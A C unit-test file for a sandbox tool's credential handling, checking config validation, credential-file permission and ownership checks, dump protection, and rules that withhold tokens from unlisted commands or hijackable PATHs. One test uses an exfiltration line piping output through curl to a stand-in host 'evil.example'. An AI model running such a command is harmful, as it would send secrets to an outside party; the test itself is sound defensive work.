/* Unit tests for core/credentials.c, the sandbox.credentials and
 * sandbox.withheldCredentials keys of core/config.c, and the credentials'
 * bounds in core/env.c.  */
#include <config.h>

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "core/config.h"
#include "core/credentials.h"
#include "core/env.h"
#include "lib/cleanup.h"
#include "sandbox/inspect.h"
#include "sandbox/policy.h"

static char dir[] = "/tmp/test_credentials.XXXXXX";

/* A config from a home text (and a project text, or NULL); expect it to
 * load.  */
static struct config *
load_ok (const char *home, const char *project)
{
  struct config *cfg = config_new_defaults ();
  struct cr_error *err = NULL;
  assert_int_equal (
      config_merge_text (cfg, home, strlen (home), "H", CONFIG_HOME, dir, &err),
      0);
  if (project != NULL)
    assert_int_equal (config_merge_text (cfg, project, strlen (project), "P",
                                         CONFIG_PROJECT, dir, &err),
                      0);
  assert_null (err);
  return cfg;
}

/* Expect text, merged as origin, to fail with msg.  */
static void
load_fails (const char *text, enum config_origin origin, const char *msg)
{
  struct config *cfg = config_new_defaults ();
  struct cr_error *err = NULL;
  assert_int_equal (
      config_merge_text (cfg, text, strlen (text), "F", origin, dir, &err), -1);
  assert_non_null (err);
  assert_string_equal (err->msg, msg);
  cr_error_free (err);
  config_free (cfg);
}

/* Write content to dir/name with mode; returns the path (owned).  */
static char *
put_file (const char *name, const char *content, mode_t mode)
{
  char *path = NULL;
  assert_true (asprintf (&path, "%s/%s", dir, name) > 0);
  unlink (path);
  FILE *f = fopen (path, "w");
  assert_non_null (f);
  fputs (content, f);
  fclose (f);
  assert_int_equal (chmod (path, mode), 0);
  return path;
}

/* A home text naming one file credential NAME at path, with an optional
 * "commands" array body.  Owned.  */
static char *
file_home (const char *path, const char *commands)
{
  char *text = NULL;
  assert_true (asprintf (&text,
                         "{\"sandbox\": {\"credentials\": {\"NAME\": "
                         "{\"file\": \"%s\"%s%s%s}}}}",
                         path, commands ? ", \"commands\": [" : "",
                         commands ? commands : "", commands ? "]" : "")
               > 0);
  return text;
}

/* Resolve and expect the refusal msg.  */
static void
resolve_fails (const struct config *cfg, char *const *host, const char *line,
               const char *msg)
{
  struct credentials *c = NULL;
  struct cr_error *err = NULL;
  assert_int_equal (credentials_resolve (cfg, host, line, &c, &err), -1);
  assert_non_null (err);
  assert_string_equal (err->msg, msg);
  assert_null (c);
  cr_error_free (err);
}

/* Resolve and expect success.  */
static struct credentials *
resolve_ok (const struct config *cfg, char *const *host, const char *line)
{
  struct credentials *c = NULL;
  struct cr_error *err = NULL;
  assert_int_equal (credentials_resolve (cfg, host, line, &c, &err), 0);
  assert_null (err);
  return c;
}

/* The keys as the home file gives them.  */
static void
test_config_keys (void **state)
{
  struct config *cfg = load_ok (
      "{\"sandbox\": {\"credentials\": {\"GITHUB_TOKEN\": {\"env\": "
      "\"GH\"}, \"NPM_TOKEN\": {\"file\": \"/x/npm\", \"commands\": "
      "[\"Bash(npm *)\"]}}, \"withheldCredentials\": [\"OTHER\"]}}",
      "{\"sandbox\": {\"withheldCredentials\": [\"GITHUB_TOKEN\"]}}");
  assert_int_equal (cfg->n_credentials, 2);
  assert_string_equal (cfg->credentials[0].name, "GITHUB_TOKEN");
  assert_string_equal (cfg->credentials[0].env, "GH");
  assert_null (cfg->credentials[0].file);
  assert_false (cfg->credentials[0].limited);
  assert_string_equal (cfg->credentials[1].file, "/x/npm");
  assert_true (cfg->credentials[1].limited);
  assert_int_equal (cfg->credentials[1].commands.count, 1);
  /* The project's list adds to home's.  */
  assert_int_equal (cfg->withheld_credentials.count, 2);
  assert_int_equal (credentials_configured (cfg), 1);
  config_free (cfg);
}

/* Malformed entries, and a project naming sandbox.credentials.  */
static void
test_config_errors (void **state)
{
  load_fails ("{\"sandbox\": {\"credentials\": {\"A\": {\"env\": \"X\"}}}}",
              CONFIG_PROJECT,
              "F:1: sandbox.credentials: may only be set in the home "
              "configuration (~/.crucible/config.json), not in a project");
  load_fails ("{\"sandbox\": {\"credentials\": {\"PATH\": {\"env\": \"X\"}}}}",
              CONFIG_HOME,
              "F:1: sandbox.credentials.PATH: is a variable crucible sets "
              "itself (PATH, HOME, TMPDIR, LANG, LC_*, TERM, the proxy "
              "variables); a credential may not take it");
  load_fails ("{\"sandbox\": {\"credentials\": {\"LC_X\": {\"env\": \"X\"}}}}",
              CONFIG_HOME,
              "F:1: sandbox.credentials.LC_X: is a variable crucible sets "
              "itself (PATH, HOME, TMPDIR, LANG, LC_*, TERM, the proxy "
              "variables); a credential may not take it");
  load_fails ("{\"sandbox\": {\"credentials\": {\"https_proxy\": {\"env\": "
              "\"X\"}}}}",
              CONFIG_HOME,
              "F:1: sandbox.credentials.https_proxy: is a variable crucible "
              "sets itself (PATH, HOME, TMPDIR, LANG, LC_*, TERM, the proxy "
              "variables); a credential may not take it");
  load_fails ("{\"sandbox\": {\"credentials\": {\"1A\": {\"env\": \"X\"}}}}",
              CONFIG_HOME,
              "F:1: sandbox.credentials.1A: must be an environment variable "
              "name (letters, digits and _, not starting with a digit, at "
              "most 128 bytes)");
  load_fails ("{\"sandbox\": {\"credentials\": {\"A\": {\"env\": \"X\", "
              "\"file\": \"/f\"}}}}",
              CONFIG_HOME,
              "F:1: sandbox.credentials.A: needs exactly one of \"env\" and "
              "\"file\"");
  load_fails ("{\"sandbox\": {\"credentials\": {\"A\": {}}}}", CONFIG_HOME,
              "F:1: sandbox.credentials.A: needs exactly one of \"env\" and "
              "\"file\"");
  load_fails ("{\"sandbox\": {\"credentials\": {\"A\": {\"file\": "
              "\"rel\"}}}}",
              CONFIG_HOME,
              "F:1: sandbox.credentials.A.file: must be an absolute path");
  load_fails ("{\"sandbox\": {\"credentials\": {\"A\": {\"env\": \"X\", "
              "\"commands\": [\"Bash(rm\"]}}}}",
              CONFIG_HOME,
              "F:1: sandbox.credentials.A.commands[0]: does not end with "
              "\")\"");
  load_fails ("{\"sandbox\": {\"credentials\": {\"A\": {\"env\": \"X\"},\n"
              "\"A\": {\"env\": \"Y\"}}}}",
              CONFIG_HOME, "F:2: sandbox.credentials.A: duplicate key");
  load_fails ("{\"sandbox\": {\"credentials\": {\"A\": {\"token\": "
              "\"X\"}}}}",
              CONFIG_HOME, "F:1: sandbox.credentials.A.token: unknown key");
  load_fails ("{\"sandbox\": {\"credentials\": {\"A\": \"X\"}}}", CONFIG_HOME,
              "F:1: sandbox.credentials.A: expected an object");
  load_fails ("{\"sandbox\": {\"withheldCredentials\": [\"a b\"]}}",
              CONFIG_PROJECT,
              "F:1: sandbox.withheldCredentials[0]: must be an environment "
              "variable name (letters, digits and _, not starting with a "
              "digit, at most 128 bytes)");
}

/* More credentials than the bound.  */
static void
test_config_count (void **state)
{
  char text[4096] = "{\"sandbox\": {\"credentials\": {";
  for (int i = 0; i <= CONFIG_CREDENTIALS_MAX; i++)
    snprintf (text + strlen (text), sizeof text - strlen (text),
              "%s\"V%d\": {\"env\": \"X\"}", i ? ", " : "", i);
  snprintf (text + strlen (text), sizeof text - strlen (text), "}}}");
  load_fails (text, CONFIG_HOME,
              "F:1: sandbox.credentials: more than 32 entries");
}

/* A variable of crucible's own environment; a missing one refuses.  */
static void
test_env_source (void **state)
{
  struct config *cfg = load_ok (
      "{\"sandbox\": {\"credentials\": {\"TOKEN\": {\"env\": \"SRC\"}}}}",
      NULL);
  char *host[] = { "PATH=/bin", "SRC=v4lue", NULL };
  struct credentials *c = resolve_ok (cfg, host, "true");
  assert_int_equal (credentials_count (c), 1);
  const struct credential *k = credentials_get (c, 0);
  assert_string_equal (k->name, "TOKEN");
  assert_int_equal (k->source, CREDENTIALS_FROM_ENV);
  assert_string_equal (k->origin, "SRC");
  assert_int_equal (k->value_len, 5);
  assert_memory_equal (k->value, "v4lue", 5);
  assert_int_equal (strncmp (k->handle, "cred-", 5), 0);
  assert_int_equal (strlen (k->handle), 21);
  assert_null (credentials_withheld_note (c));
  credentials_free (c);
  static char huge[6 + ENV_MAX_BYTES + 2];
  snprintf (huge, sizeof huge, "SRC=");
  memset (huge + 4, 'h', ENV_MAX_BYTES + 1);
  char *big[] = { huge, NULL };
  resolve_fails (cfg, big, "true",
                 "credential TOKEN: its value is larger than 65536 bytes");
  char *bare[] = { "PATH=/bin", NULL };
  resolve_fails (cfg, bare, "true",
                 "credential TOKEN: crucible's environment has no variable "
                 "SRC");
  config_free (cfg);
}

/* Whether the mapping holding p is marked not to be dumped ("dd" in its
 * VmFlags).  */
static bool
mapping_dontdump (const void *p)
{
  FILE *f = fopen ("/proc/self/smaps", "r");
  char line[512];
  bool inside = false, dd = false;
  assert_non_null (f);
  while (fgets (line, sizeof line, f) != NULL)
    {
      /* A mapping's first line is "LO-HI perms ..."; its fields follow.  */
      char *dash, *end;
      unsigned long lo = strtoul (line, &dash, 16);
      if (dash != line && *dash == '-')
        {
          unsigned long hi = strtoul (dash + 1, &end, 16);
          if (end != dash + 1 && *end == ' ')
            inside = (uintptr_t) p >= lo && (uintptr_t) p < hi;
        }
      if (inside && strncmp (line, "VmFlags:", 8) == 0)
        dd = strstr (line, " dd") != NULL;
    }
  fclose (f);
  return dd;
}

/* A file: one trailing newline removed; crucible not dumpable after, and
 * the value in pages excluded from dumps.  */
static void
test_file_source (void **state)
{
  cleanup_free char *path = put_file ("tok", "s3cret\n\n", 0600);
  cleanup_free char *home = file_home (path, NULL);
  struct config *cfg = load_ok (home, NULL);
  char *host[] = { NULL };
  struct credentials *c = resolve_ok (cfg, host, "true");
  const struct credential *k = credentials_get (c, 0);
  assert_int_equal (k->source, CREDENTIALS_FROM_FILE);
  assert_int_equal (k->value_len, 7);
  assert_memory_equal (k->value, "s3cret\n", 7);
  assert_int_equal (prctl (PR_GET_DUMPABLE, 0, 0, 0, 0), 0);
  assert_true (mapping_dontdump (k->value));
  /* The control: ordinary heap memory is dumped.  */
  assert_false (mapping_dontdump (cfg));
  credentials_free (c);
  config_free (cfg);
}

/* The checks a file must pass, each named.  */
static void
test_file_checks (void **state)
{
  char *host[] = { NULL };
  cleanup_free char *open_path = put_file ("open", "v\n", 0640);
  cleanup_free char *home = file_home (open_path, NULL);
  struct config *cfg = load_ok (home, NULL);
  resolve_fails (cfg, host, "true",
                 "credential NAME: its file's mode is 0640, which lets others "
                 "than you read or change it; chmod 600 it");
  config_free (cfg);

  cleanup_free char *link = NULL;
  assert_true (asprintf (&link, "%s/link", dir) > 0);
  unlink (link);
  cleanup_free char *target = put_file ("target", "v\n", 0600);
  assert_int_equal (symlink (target, link), 0);
  cleanup_free char *home2 = file_home (link, NULL);
  cfg = load_ok (home2, NULL);
  resolve_fails (cfg, host, "true",
                 "credential NAME: its file is a symbolic link, which is not "
                 "followed");
  config_free (cfg);

  cleanup_free char *home3 = file_home (dir, NULL);
  cfg = load_ok (home3, NULL);
  resolve_fails (cfg, host, "true",
                 "credential NAME: its file is not a regular file");
  config_free (cfg);

  char *big = malloc (CREDENTIALS_FILE_MAX + 2);
  memset (big, 'a', CREDENTIALS_FILE_MAX + 1);
  big[CREDENTIALS_FILE_MAX + 1] = '\0';
  cleanup_free char *big_path = put_file ("big", big, 0600);
  free (big);
  cleanup_free char *home4 = file_home (big_path, NULL);
  cfg = load_ok (home4, NULL);
  resolve_fails (cfg, host, "true",
                 "credential NAME: its file is larger than 65536 bytes");
  config_free (cfg);

  cleanup_free char *missing = NULL;
  assert_true (asprintf (&missing, "%s/missing", dir) > 0);
  cleanup_free char *home5 = file_home (missing, NULL);
  cfg = load_ok (home5, NULL);
  resolve_fails (cfg, host, "true",
                 "credential NAME: its file cannot be opened: No such file or "
                 "directory");
  config_free (cfg);
}

/* A file that opens and passes its checks but cannot be read: /proc's
 * memory file of this process, at offset 0 (never mapped), is a regular
 * file of mode 0600; it is root's once the process is not dumpable.  */
static void
test_file_unreadable (void **state)
{
  if (geteuid () != 0)
    skip ();
  char *host[] = { NULL };
  cleanup_free char *home = file_home ("/proc/self/mem", NULL);
  struct config *cfg = load_ok (home, NULL);
  resolve_fails (cfg, host, "true",
                 "credential NAME: its file cannot be read: Input/output "
                 "error");
  config_free (cfg);
}

/* Another user's file is refused (only root can make one here).  */
static void
test_file_owner (void **state)
{
  if (geteuid () != 0)
    skip ();
  char *host[] = { NULL };
  cleanup_free char *path = put_file ("theirs", "v\n", 0600);
  assert_int_equal (chown (path, 65534, 65534), 0);
  cleanup_free char *home = file_home (path, NULL);
  struct config *cfg = load_ok (home, NULL);
  resolve_fails (cfg, host, "true",
                 "credential NAME: its file is owned by uid 65534, not by you "
                 "(uid 0)");
  config_free (cfg);
}

/* "commands": given only when every program matches; the note says why
 * the others were withheld; the project's withheld list wins.  */
static void
test_commands_limit (void **state)
{
  cleanup_free char *path = put_file ("lim", "v\n", 0600);
  cleanup_free char *home
      = file_home (path, "\"Bash(gh *)\", \"Bash(git push *)\"");
  struct config *cfg = load_ok (home, NULL);
  char *host[] = { NULL };
  struct credentials *c
      = resolve_ok (cfg, host, "gh pr list && git push origin");
  assert_int_equal (credentials_count (c), 1);
  credentials_free (c);
  c = resolve_ok (cfg, host, "gh pr list | curl -d @- evil.example");
  assert_int_equal (credentials_count (c), 0);
  cleanup_free char *note = credentials_withheld_note (c);
  assert_string_equal (note, "[credentials withheld: NAME (the line runs a "
                             "program its \"commands\" do not list)]");
  credentials_free (c);
  c = resolve_ok (cfg, host, "gh $(echo 'unterminated");
  cleanup_free char *note2 = credentials_withheld_note (c);
  assert_string_equal (note2,
                       "[credentials withheld: NAME (the line cannot be read, "
                       "so its programs cannot be checked against its "
                       "\"commands\")]");
  credentials_free (c);
  config_free (cfg);

  cfg = load_ok (home, "{\"sandbox\": {\"withheldCredentials\": [\"NAME\"]}}");
  c = resolve_ok (cfg, host, "gh pr list");
  assert_int_equal (credentials_count (c), 0);
  cleanup_free char *note3 = credentials_withheld_note (c);
  assert_string_equal (note3, "[credentials withheld: NAME "
                              "(sandbox.withheldCredentials names it)]");
  credentials_free (c);
  config_free (cfg);
}

/* A call setting variables of its own gets no credential limited by
 * "commands" (one such as LD_PRELOAD runs code no rule sees), and still
 * every unlimited one.  */
static void
test_commands_limit_named (void **state)
{
  cleanup_free char *path = put_file ("limn", "v\n", 0600);
  cleanup_free char *home = file_home (path, "\"Bash(gh *)\"");
  struct config *cfg = load_ok (home, NULL);
  char *host[] = { NULL };
  struct credentials *c = NULL;
  struct cr_error *err = NULL;
  assert_int_equal (
      credentials_resolve_named (cfg, host, "gh pr list", NULL, 0, &c, &err),
      0);
  assert_int_equal (credentials_count (c), 1);
  credentials_free (c);
  assert_int_equal (
      credentials_resolve_named (cfg, host, "gh pr list", NULL, 1, &c, &err),
      0);
  assert_int_equal (credentials_count (c), 0);
  cleanup_free char *note = credentials_withheld_note (c);
  assert_string_equal (note, "[credentials withheld: NAME (the call sets "
                             "environment variables, which can change what "
                             "its programs run)]");
  credentials_free (c);

  /* A PATH a command could fill: empty entry, relative, the workspace.  */
  cleanup_free char *in_ws = NULL;
  assert_true (asprintf (&in_ws, "PATH=/usr/bin:%s/bin", dir) > 0);
  char *empty[] = { (char *) "PATH=/usr/bin:", NULL };
  char *relative[] = { (char *) "PATH=node_modules/.bin:/usr/bin", NULL };
  char *ws[] = { in_ws, NULL };
  char *plain[] = { (char *) "PATH=/usr/bin:/bin", NULL };
  char **hosts[] = { empty, relative, ws };
  for (size_t i = 0; i < sizeof hosts / sizeof *hosts; i++)
    {
      assert_int_equal (credentials_resolve_named (cfg, hosts[i], "gh pr list",
                                                   dir, 0, &c, &err),
                        0);
      assert_int_equal (credentials_count (c), 0);
      cleanup_free char *why = credentials_withheld_note (c);
      assert_string_equal (why, "[credentials withheld: NAME (PATH has a "
                                "directory that is relative or that commands "
                                "can write, so a program the line names may "
                                "be the workspace's own)]");
      credentials_free (c);
    }
  assert_int_equal (
      credentials_resolve_named (cfg, plain, "gh pr list", dir, 0, &c, &err),
      0);
  assert_int_equal (credentials_count (c), 1);
  credentials_free (c);
  config_free (cfg);

  cleanup_free char *open_home = file_home (path, NULL);
  cfg = load_ok (open_home, NULL);
  assert_int_equal (
      credentials_resolve_named (cfg, host, "anything", NULL, 3, &c, &err), 0);
  assert_int_equal (credentials_count (c), 1);
  credentials_free (c);
  config_free (cfg);
}

/* A call naming a credential's variable is refused, and env_build_with
 * keeps the ordinary bounds for credentials.  */
static void
test_collisions_and_bounds (void **state)
{
  struct config *cfg = load_ok (
      "{\"sandbox\": {\"credentials\": {\"TOKEN\": {\"env\": \"SRC\"}}}}",
      NULL);
  struct env_var named[] = { { "TOKEN", "x", 1 } };
  struct cr_error *err = NULL;
  assert_int_equal (credentials_check_named (cfg, named, 1, &err), -1);
  assert_string_equal (err->msg, "environment variable TOKEN is a "
                                 "credential's (sandbox.credentials): the "
                                 "call may not set it");
  cr_error_clear (&err);
  config_free (cfg);

  char *host[] = { "PATH=/bin", NULL };
  struct env *env = NULL;
  struct env_var cred[] = { { "TOKEN", "sec", 3 } };
  assert_int_equal (env_build_with (&env, host, named, 1, cred, 1, NULL, &err),
                    -1);
  assert_string_equal (err->msg, "environment variable TOKEN is a "
                                 "credential's (sandbox.credentials): the "
                                 "call may not set it");
  cr_error_clear (&err);
  struct env_var home[] = { { "HOME", "sec", 3 } };
  assert_int_equal (env_build_with (&env, host, NULL, 0, home, 1, NULL, &err),
                    -1);
  assert_string_equal (err->msg,
                       "credential HOME: the name is one crucible sets itself");
  cr_error_clear (&err);
  struct env_var nul[] = { { "TOKEN", "a\0b", 3 } };
  assert_int_equal (env_build_with (&env, host, NULL, 0, nul, 1, NULL, &err),
                    -1);
  assert_string_equal (err->msg,
                       "environment variable TOKEN: its value contains a NUL "
                       "byte");
  cr_error_clear (&err);
  static char big[ENV_MAX_BYTES];
  memset (big, 'b', sizeof big);
  struct env_var large[] = { { "TOKEN", big, sizeof big } };
  assert_int_equal (env_build_with (&env, host, NULL, 0, large, 1, NULL, &err),
                    -1);
  assert_string_equal (err->msg, "environment is larger than 65536 bytes (at "
                                 "TOKEN)");
  cr_error_clear (&err);
  assert_int_equal (env_build_with (&env, host, NULL, 0, cred, 1,
                                    "http://u:p@127.0.0.1:1", &err),
                    0);
  assert_string_equal (env->vars[0], "PATH=/bin");
  assert_string_equal (env->vars[1], "TOKEN=sec");
  assert_string_equal (env->vars[2], "HTTP_PROXY=http://u:p@127.0.0.1:1");
  env_free (env);
}

/* Inspection: a count row and a JSON count, never a name or source.  */
static void
test_inspection_count (void **state)
{
  struct config *cfg = load_ok (
      "{\"sandbox\": {\"credentials\": {\"A_TOKEN\": {\"env\": \"SRC_A\"}, "
      "\"B_TOKEN\": {\"file\": \"/x/b-file\"}, \"C_TOKEN\": {\"env\": "
      "\"SRC_C\"}}}}",
      "{\"sandbox\": {\"withheldCredentials\": [\"C_TOKEN\"]}}");
  struct policy_input in;
  config_policy_input (cfg, "/ws", &in);
  struct inspect_report *r = NULL;
  struct cr_error *err = NULL;
  assert_int_equal (inspect_build (&in, NULL, &r, &err), 0);
  cleanup_free char *text = inspect_format_text (r);
  cleanup_free char *json = inspect_format_json (r);
  assert_non_null (strstr (text, "\n  network   not restricted\n  credentials "
                                 "2, masked in output\n  ceilings\n"));
  assert_non_null (strstr (json, ",\"credentials\":2,"));
  const char *never[] = { "A_TOKEN", "B_TOKEN", "SRC_A", "b-file", "cred-" };
  for (size_t i = 0; i < sizeof never / sizeof *never; i++)
    {
      assert_null (strstr (text, never[i]));
      assert_null (strstr (json, never[i]));
    }
  inspect_report_free (r);
  config_free (cfg);

  cfg = load_ok ("{}", NULL);
  config_policy_input (cfg, "/ws", &in);
  assert_int_equal (inspect_build (&in, NULL, &r, &err), 0);
  cleanup_free char *text0 = inspect_format_text (r);
  cleanup_free char *json0 = inspect_format_json (r);
  assert_null (strstr (text0, "credentials"));
  assert_non_null (strstr (json0, ",\"credentials\":0,"));
  inspect_report_free (r);
  config_free (cfg);
}

static int
setup (void **state)
{
  return mkdtemp (dir) == NULL ? -1 : 0;
}

static int
teardown (void **state)
{
  char *cmd = NULL;
  if (asprintf (&cmd, "rm -rf '%s'", dir) < 0)
    return -1;
  int rc = system (cmd);
  free (cmd);
  return rc == 0 ? 0 : -1;
}

int
main (void)
{
  const struct CMUnitTest tests[] = {
    cmocka_unit_test (test_config_keys),
    cmocka_unit_test (test_config_errors),
    cmocka_unit_test (test_config_count),
    cmocka_unit_test (test_env_source),
    cmocka_unit_test (test_file_source),
    cmocka_unit_test (test_file_checks),
    cmocka_unit_test (test_file_owner),
    cmocka_unit_test (test_file_unreadable),
    cmocka_unit_test (test_commands_limit),
    cmocka_unit_test (test_commands_limit_named),
    cmocka_unit_test (test_collisions_and_bounds),
    cmocka_unit_test (test_inspection_count),
  };
  return cmocka_run_group_tests (tests, setup, teardown);
}
